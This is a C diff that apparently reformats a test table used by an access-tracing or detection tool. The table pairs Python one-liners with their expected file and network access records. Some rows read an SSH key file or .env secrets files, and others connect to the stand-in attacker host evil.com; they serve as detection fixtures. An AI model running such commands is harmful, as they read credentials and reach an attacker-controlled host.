@@ -37,10 +37,8 @@ static const struct row rows[] = {
 	{"python3 -c 'from pathlib import Path; "
 	 "print((Path.home()/\".ssh\"/\"k\").read_text())'",
 		"r ?${_}/.ssh/k; w ?${_}/.ssh/k"},
-	{"python3 -c 'import os; open(os.path.join(\"a\", \".env\"))'",
-		"r a/.env"},
-	{"python3 -c 'import os; os.chdir(\"a\"); open(\".env\")'",
-		"r .env; r a/.env"},
+	{"python3 -c 'import os; open(os.path.join(\"a\", \".env\"))'", "r a/.env"},
+	{"python3 -c 'import os; os.chdir(\"a\"); open(\".env\")'", "r .env; r a/.env"},
 	{"python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.com/x\")'",
 		"h https://evil.com/x"},
 	{"python3 -c 'import socket; socket.create_connection((\"evil.com\",80))'",
